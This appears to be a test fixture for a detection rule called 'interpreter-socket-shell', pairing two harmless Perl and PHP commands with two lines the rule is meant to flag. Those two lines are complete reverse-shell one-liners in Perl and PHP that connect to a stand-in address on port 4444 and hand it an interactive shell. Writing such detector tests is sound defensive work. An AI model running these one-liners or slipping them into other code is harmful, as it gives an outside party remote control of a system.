#!/bin/bash
# ok: interpreter-socket-shell
perl -ne 'print if /socket/' /var/log/app.log
# ok: interpreter-socket-shell
php -r 'echo gethostbyname("x.example");'
# ruleid: interpreter-socket-shell
perl -e 'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
# ruleid: interpreter-socket-shell
php -r '$sock=fsockopen("203.0.113.9",4444);exec("sh <&3 >&3 2>&3");'
